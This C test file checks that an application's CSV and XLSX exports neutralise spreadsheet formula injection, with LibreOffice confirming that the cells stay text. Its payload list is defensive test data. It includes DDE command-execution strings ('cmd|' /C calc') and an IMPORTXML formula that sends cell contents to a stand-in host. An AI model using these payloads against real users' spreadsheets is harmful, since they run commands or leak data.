/* SPDX-License-Identifier: GPL-3.0-or-later */
#define G_LOG_DOMAIN "test-export-libreoffice"

#include "config.h"

#include <string.h>

#include "csp-database.h"
#include "csp-export-csv.h"
#include "csp-export-xlsx.h"
#include "csp-records.h"
#include "csp-store.h"
#include "test-folder.h"
#include "test-tools.h"

/* Formula injection as a spreadsheet sees it: activities whose titles are
 * the usual payloads are exported as CSV and XLSX, LibreOffice (headless,
 * $SOFFICE) opens each and saves it as flat ODS, and no cell may have
 * become a formula. Skipped when LibreOffice is not installed. */

static const char *const payloads[] = {
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "=HYPERLINK(\"http://example.com/\",\"Click\")",
  "=cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+5+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=IMPORTXML(CONCAT(\"http://example.com/?v=\", CONCATENATE(A2:E2)), \"//a\")",
  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
};

typedef struct
{
  char *dir;
  CspDatabase *database;
  char *soffice;
} Fixture;

static void
fixture_set_up (Fixture *fixture, gconstpointer user_data)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *path = NULL;
  g_autoptr (CspStore) store = NULL;

  fixture->soffice = g_strdup (g_getenv ("SOFFICE"));
  if (fixture->soffice == NULL || *fixture->soffice == '\0')
    {
      g_free (fixture->soffice);
      fixture->soffice = g_find_program_in_path ("soffice");
    }
  fixture->dir = test_folder_new ("csp-test-libreoffice");
  path = g_build_filename (fixture->dir, "csp-engage.db", NULL);
  fixture->database = csp_database_open (path, &error);
  g_assert_no_error (error);
  store = csp_store_new (fixture->database);
  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    {
      g_autoptr (CspRecord) activity = csp_record_new (CSP_TYPE_ACTIVITY);

      csp_record_set_string (activity, "title", payloads[i]);
      csp_record_set_string (activity, "start_date", "2021-06-01");
      csp_record_set_string (activity, "format", "other");
      csp_record_set_string (activity, "mode", "online");
      csp_record_set_string (activity, "status", "planned");
      csp_record_set_string (activity, "outcome", payloads[i]);
      g_assert_true (csp_store_insert (store, activity, &error));
      g_assert_no_error (error);
    }
}

static void
fixture_tear_down (Fixture *fixture, gconstpointer user_data)
{
  g_clear_object (&fixture->database);
  g_free (fixture->soffice);
  test_folder_remove (fixture->dir);
  g_free (fixture->dir);
}

/* LibreOffice opens @input and saves it as flat ODS, whose XML is returned. */
static char *
open_in_libreoffice (Fixture *fixture, const char *input)
{
  g_autofree char *profile = g_build_filename (fixture->dir, "profile", NULL);
  g_autofree char *profile_url = g_filename_to_uri (profile, NULL, NULL);
  g_autofree char *installation = g_strconcat ("-env:UserInstallation=", profile_url, NULL);
  g_autofree char *base = g_path_get_basename (input);
  g_autofree char *stem = g_strndup (base, (gsize) (strrchr (base, '.') - base));
  g_autofree char *output_name = g_strconcat (stem, ".fods", NULL);
  g_autofree char *output = g_build_filename (fixture->dir, "out", output_name, NULL);
  g_autofree char *out_dir = g_build_filename (fixture->dir, "out", NULL);
  g_autofree char *contents = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autoptr (GError) error = NULL;
  g_auto (GStrv) env = g_get_environ ();
  const char *argv[] = {
    fixture->soffice, installation, "--headless", "--norestore", "--convert-to",
    "fods",           "--outdir",   out_dir,      input,         NULL,
  };
  int status = 0;

  env = g_environ_setenv (env, "HOME", fixture->dir, TRUE);
  g_assert_true (g_spawn_sync (NULL, (char **) argv, env, G_SPAWN_SEARCH_PATH, NULL, NULL, &out,
                               &err, &status, &error));
  g_assert_no_error (error);
  g_test_message ("soffice: %s%s", out, err);
  g_assert_true (g_spawn_check_wait_status (status, NULL));
  g_assert_true (g_file_get_contents (output, &contents, NULL, &error));
  g_assert_no_error (error);
  return g_steal_pointer (&contents);
}

/* No formula anywhere (LibreOffice writes an XLSX boolean as the formula
 * TRUE() or FALSE(), which is no payload), and each payload is still there
 * as text. */
static void
assert_all_text (const char *fods)
{
  for (const char *formula = strstr (fods, "table:formula="); formula != NULL;
       formula = strstr (formula + 1, "table:formula="))
    {
      if (g_str_has_prefix (formula, "table:formula=\"of:=TRUE()\"") ||
          g_str_has_prefix (formula, "table:formula=\"of:=FALSE()\""))
        continue;
      g_test_message ("a formula: %.600s", formula - MIN (formula - fods, 300));
      g_assert_not_reached ();
    }
  g_assert_nonnull (strstr (fods, "cmd|"));
  g_assert_nonnull (strstr (fods, "SUM(1,1)"));
  g_assert_nonnull (strstr (fods, "HYPERLINK("));
  g_assert_nonnull (strstr (fods, "IMPORTXML("));
  g_assert_nonnull (strstr (fods, "=1+1"));
  g_assert_nonnull (strstr (fods, "+1+1"));
  g_assert_nonnull (strstr (fods, "-1+1"));
  g_assert_null (strstr (fods, "office:value-type=\"float\" office:value=\"2\""));
}

static gboolean
need_libreoffice (Fixture *fixture)
{
  if (fixture->soffice != NULL)
    return TRUE;
  test_tools_missing ("LibreOffice (soffice) is not installed");
  return FALSE;
}

static void
test_csv (Fixture *fixture, gconstpointer user_data)
{
  g_autofree char *path = g_build_filename (fixture->dir, "activities.csv", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GError) error = NULL;
  g_autofree char *fods = NULL;

  if (!need_libreoffice (fixture))
    return;
  g_assert_true (csp_export_csv (fixture->database, CSP_IMPORT_ACTIVITIES, file,
                                 CSP_EXPORT_CSV_FLAGS_NONE, NULL, &error));
  g_assert_no_error (error);
  fods = open_in_libreoffice (fixture, path);
  assert_all_text (fods);
}

/* The control: a payload written plainly does become a formula, so the
 * test above would have seen one. */
static void
test_csv_unprotected (Fixture *fixture, gconstpointer user_data)
{
  g_autofree char *path = g_build_filename (fixture->dir, "plain.csv", NULL);
  g_autofree char *fods = NULL;

  if (!need_libreoffice (fixture))
    return;
  g_assert_true (g_file_set_contents (path, "Title\r\n=1+1\r\n", -1, NULL));
  fods = open_in_libreoffice (fixture, path);
  g_assert_nonnull (strstr (fods, "table:formula="));
}

static void
test_xlsx (Fixture *fixture, gconstpointer user_data)
{
  g_autofree char *path = g_build_filename (fixture->dir, "lists.xlsx", NULL);
  g_autoptr (GError) error = NULL;
  g_autofree char *fods = NULL;

  if (!need_libreoffice (fixture))
    return;
  g_assert_true (csp_export_xlsx (fixture->database, path, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  fods = open_in_libreoffice (fixture, path);
  assert_all_text (fods);
  /* Dates stay dates. */
  g_assert_nonnull (strstr (fods, "office:date-value=\"2021-06-01\""));
}

int
main (int argc, char *argv[])
{
  g_test_init (&argc, &argv, NULL);

#define ADD(path, func) g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  ADD ("/export/libreoffice/csv", test_csv);
  ADD ("/export/libreoffice/csv-unprotected", test_csv_unprotected);
  ADD ("/export/libreoffice/xlsx", test_xlsx);
#undef ADD
  return g_test_run ();
}
